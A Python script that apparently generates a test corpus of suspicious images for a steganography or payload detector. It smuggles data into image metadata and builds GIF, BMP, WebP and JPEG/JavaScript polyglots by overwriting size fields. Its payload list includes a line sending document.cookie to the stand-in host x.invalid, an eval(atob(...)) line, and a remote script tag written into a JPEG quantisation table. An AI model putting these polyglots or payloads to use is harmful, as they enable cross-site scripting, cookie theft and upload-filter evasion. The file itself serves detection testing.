"""hidden.py's classes metadata-claim, size-field and short-script (see hidden.py's docstring).

metadata-claim: payloads inside elements named as metadata: a fake `Exif\\0\\0` APP1, WebP EXIF/XMP
chunks, GIF `XMP DataXMP`/`NETSCAPE2.0` extensions, extra IDAT chunks after the zlib stream, data
after a real Exif TIFF structure, after a real ICC profile, a fake ICC_PROFILE APP2, an XMP APP1
that is no XML (or XML then binary), PNG iCCP/zTXt/iTXt/eXIf that are not what they claim.
size-field: polyglot tricks that overwrite size fields (GIF89a/BM/RIFF `/*`, JPEG APP0 length
`/*`, RIFF size 0xFFFFFFFF, PNG chunk lengths) with JavaScript/PHP/HTML in or after the picture.
short-script: PHP short tags and HTML/JS snippets of 15-30 bytes, `<script>` in a DQT table.
"""
import struct
import zlib
from pathlib import Path

import build as B
from build import find_once, jpeg_segments, png_chunk, riff_add_chunk
from realworld import gif_header_end
from hidden import in_gif, in_jpeg, in_png, tiff_end

XMP_NS = b"http://ns.adobe.com/xap/1.0/\0"
GIF_XMP_MAGIC = bytes([1]) + bytes(range(255, -1, -1)) + b"\0"
JS = [b"*/=1;alert(1);", b"*/=1;alert(document.domain);//", b"*/=1;fetch('//x.invalid/?'+document.cookie);",
      b"*/=1;eval(atob('YWxlcnQoMSk='));"]


def build_meta(K, H, P, sus):
    icc = Path("/usr/share/color/icc/sRGB.icc").read_bytes()
    assert struct.unpack(">I", icc[:4])[0] == len(icc) and icc[36:40] == b"acsp"
    build_metadata_claim(K, H, P, sus)
    build_size_field(K, H, P, sus)
    build_short_script(K, H, sus)


def pl(key, H, P):
    return (P[key][0], P[key][1], P[key][2]) if key in P else H[key]


def build_metadata_claim(K, H, P, sus):
    def s(name, data, pic, typ, begin, note):
        sus("meta_" + name, data, pic, typ, begin, "inside", "metadata-claim", note)
    jpgs = ["jpg", "jpg_prog", "jpg_exif"]
    # fake Exif APP1 (one segment, or split with an Exif header in each)
    for i, key in enumerate(["ts", "ts_long", "fmp4", "zip", "enc25k", "enc200k", "7z"]):
        data, typ, desc = pl(key, H, P)
        for j, room in ((jpgs[i % 3], 65533), (jpgs[(i + 1) % 3], 16384)):
            out, begin = in_jpeg(K[j][0], 0xE1, data, b"Exif\0\0", room)
            n = -(-len(data) // (room - 6))
            s(f"fake_exif_{key}_{j}_{n}seg.jpg", out, "jpg", typ, begin,
              f"{desc} in {n} APP1 segment(s) starting 'Exif\\0\\0' (no TIFF header)")
    # WebP EXIF / XMP chunks (flags set in VP8X), also split over several chunks
    w0 = B.save(B.photo(320, 240, 1), "WEBP", quality=80, icc_profile=Path("/usr/share/color/icc/sRGB.icc").read_bytes())
    assert w0[12:16] == b"VP8X"
    for key in ("ts", "fmp4", "zip", "enc25k", "ts_long"):
        data, typ, desc = pl(key, H, P)
        for fourcc, flag in ((b"EXIF", 0x08), (b"XMP ", 0x04)):
            for parts in (1, 3):
                w, n = bytearray(w0), -(-len(data) // parts)
                w[20] |= flag
                w, begin = riff_add_chunk(bytes(w), fourcc, data[:n])
                for k in range(1, parts):
                    w, _ = riff_add_chunk(w, fourcc, data[k * n:(k + 1) * n])
                s(f"webp_{fourcc.decode().strip().lower()}_{key}_{parts}.webp", w, "webp", typ, begin,
                  f"{desc} in {parts} WebP '{fourcc.decode()}' chunk(s)")
    # GIF XMP DataXMP (raw with magic trailer, or sub-blocks) and NETSCAPE2.0 with extra sub-blocks
    for key in ("ts", "fmp4", "zip", "enc10k"):
        data, typ, desc = pl(key, H, P)
        for g in ("gif", "gif_anim"):
            gif = K[g][0]
            pos = gif_header_end(gif)
            if key == "zip":  # raw, as XMP writers store text; binary breaks sub-block readers: once
                raw = b"\x21\xff\x0bXMP DataXMP" + data + GIF_XMP_MAGIC
                s(f"gif_xmp_raw_{key}_{g}.gif", gif[:pos] + raw + gif[pos:], "gif", typ, pos + 14,
                  f"{desc} stored raw in an 'XMP DataXMP' extension with the 258-byte magic trailer")
            out, begin = in_gif(gif, data, b"\xff", b"XMP DataXMP", at_end=True)
            s(f"gif_xmp_sub_{key}_{g}.gif", out, "gif", typ, begin, f"{desc} in sub-blocks of 'XMP DataXMP'")
            ext = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00" + B.gif_subblocks(data)
            s(f"gif_netscape_{key}_{g}.gif", gif[:pos] + ext + gif[pos:], "gif", typ, pos + 19,
              f"{desc} in sub-blocks after the loop-count sub-block of 'NETSCAPE2.0'")
    # extra IDAT chunks after the real zlib stream ended
    for key in ("ts", "zip", "enc25k", "rand4k", "ts_long"):
        data, typ, desc = pl(key, H, P)
        for base, parts in (("png", 1), ("png_pal", 3)):
            png = K[base][0]
            n = -(-len(data) // parts)
            chunks = b"".join(png_chunk(b"IDAT", data[k * n:(k + 1) * n]) for k in range(parts))
            out = png[:-12] + chunks + png[-12:]
            s(f"png_extra_idat_{key}_{base}.png", out, "png", typ, len(png) - 12 + 8,
              f"{desc} in {parts} IDAT chunk(s) after the image's zlib stream ended")
    # data after a real Exif TIFF structure (JPEG APP1, WebP EXIF, PNG eXIf)
    ex = B.exif_bytes()[6:]  # the TIFF structure, without "Exif\0\0"
    assert len(ex) - tiff_end(ex) in (0, 1)  # Pillow pads the last value to a word boundary
    for key in ("ts", "zip", "enc10k", "rand1k", "php"):
        data, typ, desc = pl(key, H, P)
        out, begin = in_jpeg(K["jpg"][0], 0xE1, ex + data, b"Exif\0\0")
        s(f"exif_tail_{key}.jpg", out, "jpg", typ, begin + len(ex), f"{desc} after the TIFF structure of a real Exif APP1")
        w = bytearray(w0)
        w[20] |= 0x08
        w, begin = riff_add_chunk(bytes(w), b"EXIF", ex + data)
        s(f"webp_exif_tail_{key}.webp", w, "webp", typ, begin + len(ex), f"{desc} after a real Exif in a WebP EXIF chunk")
        out, begin = in_png(K["png"][0], ex + data, b"eXIf")
        s(f"png_exif_tail_{key}.png", out, "png", typ, begin + len(ex), f"{desc} after a real Exif in a PNG eXIf chunk")
    # data after a real ICC profile (JPEG APP2 ICC_PROFILE, WebP ICCP), written by Pillow
    icc = Path("/usr/share/color/icc/sRGB.icc").read_bytes()
    p = B.photo(320, 240, 1)
    for key in ("ts", "zip", "enc10k", "rand4k"):
        data, typ, desc = pl(key, H, P)
        out = B.save(p, "JPEG", quality=85, icc_profile=icc + data)
        s(f"icc_tail_{key}.jpg", out, "jpg", typ, find_once(out, data[:64]),
          f"{desc} after a {len(icc)}-byte ICC profile in the APP2 ICC_PROFILE segment")
        out = B.save(p, "WEBP", quality=80, icc_profile=icc + data)
        s(f"iccp_tail_{key}.webp", out, "webp", typ, find_once(out, data[:64]),
          f"{desc} after a {len(icc)}-byte ICC profile in the WebP ICCP chunk")
    # fake ICC_PROFILE APP2 (no acsp profile); XMP APP1 with no XML, or XML then binary
    for i, key in enumerate(("ts", "zip", "enc25k", "fmp4")):
        data, typ, desc = pl(key, H, P)
        j = K[jpgs[i % 3]][0]
        out, begin = in_jpeg(j, 0xE2, data, b"ICC_PROFILE\0\x01\x01")
        s(f"fake_icc_{key}.jpg", out, "jpg", typ, begin, f"{desc} in an APP2 'ICC_PROFILE' with no profile")
        out, begin = in_jpeg(j, 0xE1, data, XMP_NS)
        s(f"xmp_binary_{key}.jpg", out, "jpg", typ, begin, f"{desc} as the body of an XMP APP1 (no XML)")
        x = B.xmp("<dc:format>image/jpeg</dc:format>", pad=500)
        out, begin = in_jpeg(j, 0xE1, x + data, XMP_NS)
        s(f"xmp_then_{key}.jpg", out, "jpg", typ, begin + len(x), f"{desc} after a valid XMP packet in its APP1")
    # PNG iCCP / zTXt / iTXt / eXIf whose content is not what they claim
    for key in ("ts", "enc10k", "zip", "rand4k"):
        data, typ, desc = pl(key, H, P)
        for ctype, head, real, where in (
                (b"iCCP", b"ICC Profile\0\0", zlib.compress(icc), "ihdr"),
                (b"zTXt", b"Comment\0\0", zlib.compress(b"a compressed comment " * 20), "end"),
                (b"iTXt", b"XML:com.adobe.xmp\0\x01\0\0\0", zlib.compress(B.xmp(pad=300)), "end")):
            out, begin = in_png(K["png"][0], head + data, ctype, where)
            s(f"png_{ctype.decode().lower()}_raw_{key}.png", out, "png", typ, begin + len(head),
              f"{desc} in a {ctype.decode()} chunk, not zlib")
            out, begin = in_png(K["png_pal"][0], head + real + data, ctype, where)
            s(f"png_{ctype.decode().lower()}_tail_{key}.png", out, "png", typ, begin + len(head) + len(real),
              f"{desc} after a complete zlib stream in a {ctype.decode()} chunk")
        out, begin = in_png(K["png"][0], data, b"eXIf")
        s(f"png_exif_raw_{key}.png", out, "png", typ, begin, f"{desc} in an eXIf chunk (no TIFF)")


def build_size_field(K, H, P, sus):
    def s(name, data, pic, typ, begin, loc, note):
        sus("size_" + name, data, pic, typ, begin, loc, "size-field", note)
    gifs = [K["gif"][0], K["gif_anim"][0], B.save(B.photo(200, 150, 44).quantize(16), "GIF")]
    for i, g in enumerate(gifs):
        g = bytearray(b"GIF89a" + g[6:])
        assert b"*/" not in g
        g[6:8] = b"/*"  # logical screen width 0x2a2f: the file reads as GIF89a/* ... in JavaScript
        for k, js in enumerate(JS):
            s(f"gif_jscomment_{i}_{k}.gif", bytes(g) + js, "gif", "JavaScript", len(g), "after",
              f"GIF89a with width bytes '/*' (10799 px), {js.decode()!r} after the trailer")
    for i, base in enumerate(["bmp", "bmp1"]):
        bmp = K["bmp"][0] if base == "bmp" else B.save(B.photo(64, 48, 45), "BMP")
        d = bytearray(bmp)
        d[2:6] = b"/*\0\0"  # bfSize overwritten: BM/* ... */=...
        for k, js in enumerate(JS[:3]):
            s(f"bmp_jscomment_{i}_{k}.bmp", bytes(d) + js, "bmp", "JavaScript", len(d), "after",
              f"BMP whose bfSize reads '/*' then {js.decode()!r} after the pixel array")
    for base in ("webp", "webpx"):
        w = bytearray(K[base][0])
        real = len(w)
        w[4:8] = b"/*\0\0"  # RIFF size 0x2a2f: RIFF/* ... */=...
        for k, js in enumerate(JS[:3]):
            s(f"webp_riff_jscomment_{base}_{k}.webp", bytes(w) + js, "webp", "JavaScript", real, "after",
              f"WebP whose RIFF size reads '/*' ({0x2a2f}, file {real}) then {js.decode()!r}")
        for k, key in enumerate(("php", "html", "js")):
            data, typ, desc = P[key]
            if base == "webpx":
                out, begin = riff_add_chunk(K[base][0], b"php ", data)
                out = bytearray(out)
                out[4:8] = b"\xff\xff\xff\xff"
                s(f"webp_riff_ffff_chunk_{key}.webp", bytes(out), "webp", typ, begin, "inside",
                  f"{desc} in an unknown chunk; RIFF size overwritten with 0xFFFFFFFF")
            else:
                out = bytearray(K[base][0] + data)
                out[4:8] = struct.pack("<I", len(out) - 8 + [0, 3, 1000][k])
                s(f"webp_riff_grown_{key}.webp", bytes(out), "webp", typ, real, "after",
                  f"{desc} after the last chunk; RIFF size grown to cover it (or beyond)")
    # JPEG whose APP0 length reads '/*' (Heyes' JPEG/JS polyglot): padding, then JS in a COM
    for i, j in enumerate(("jpg", "jpg_prog", "jpg_exif")):
        jpg = K[j][0]
        segs = jpeg_segments(jpg)
        assert segs[0][1] == 0xE0
        rest = jpg[segs[0][0] + segs[0][2]:]
        app0 = jpg[6:6 + 14].ljust(0x2F2A - 2, b"\0")
        for k, js in enumerate(JS[:2]):
            com = b"\xff\xfe" + struct.pack(">H", len(js) + 4) + js + b"/*"
            out = b"\xff\xd8\xff\xe0/*" + app0 + com + rest[:-2] + b"*/" + rest[-2:]
            s(f"jpg_app0_jscomment_{j}_{k}.jpg", out, "jpg", "JavaScript", 4 + 0x2F2A + 4, "inside",
              f"APP0 length '/*' (12074, zero padding), then {js.decode()!r} in a COM segment")
    # PNG chunk length overwritten
    for key in ("zip", "php", "js", "ts"):
        data, typ, desc = P[key]
        for base, length in (("png", 0xFFFFFFFF), ("png_pal", 0x2F2A2F2A)):
            png = K[base][0]
            out, begin = in_png(png, data, b"jsPy", "end")
            out = bytearray(out)
            struct.pack_into(">I", out, begin - 8, length)
            s(f"png_len_{key}_{base}.png", bytes(out), "png", typ, begin, "inside",
              f"{desc} in a private chunk whose length field was overwritten with {length:#x}")


def build_short_script(K, H, sus):
    def s(name, data, pic, typ, begin, loc, note):
        sus("short_" + name, data, pic, typ, begin, loc, "short-script", note)
    keys = ["php_short", "php_short2", "iframe", "js30", "svg_onload", "script", "php20"]
    for key in keys:
        data, typ, desc = H[key]
        for base in ("gif", "gif_anim", "png", "jpg", "webp", "bmp"):
            c, pic, ext = K[base]
            s(f"{key}_after_{base}.{ext}", c + data, pic, typ, len(c), "after", f"{desc} after the picture")
        out, begin = in_jpeg(K["jpg_exif"][0], 0xFE, data)
        s(f"{key}_in_com.jpg", out, "jpg", typ, begin, "inside", f"{desc} in a COM segment")
        out, begin = in_gif(K["gif"][0], data)
        s(f"{key}_in_gif_comment.gif", out, "gif", typ, begin, "inside", f"{desc} in a GIF comment")
        out, begin = in_png(K["png_pal"][0], b"Comment\0" + data, b"tEXt")
        s(f"{key}_in_text.png", out, "png", typ, begin + 8, "inside", f"{desc} as a tEXt value")
    for i, j in enumerate(("jpg", "jpg_prog", "jpg_exif")):
        jpg = K[j][0]
        for k, txt in enumerate((b"<script>alert(1)</script>", b"<script src=//x.invalid/a.js></script>")):
            off = next(o for o, m, n in jpeg_segments(jpg) if m == 0xDB)
            assert jpg[off + 4] & 0xF0 == 0  # 8-bit table: 64 bytes follow Pq/Tq
            table = txt.ljust(64, b" ")
            out = jpg[:off + 5] + table + jpg[off + 69:]
            s(f"dqt_script_{j}_{k}.jpg", out, "jpg", "HTML", off + 5, "inside",
              f"{txt.decode()!r} written into the first 64-byte DQT table (space padded)")
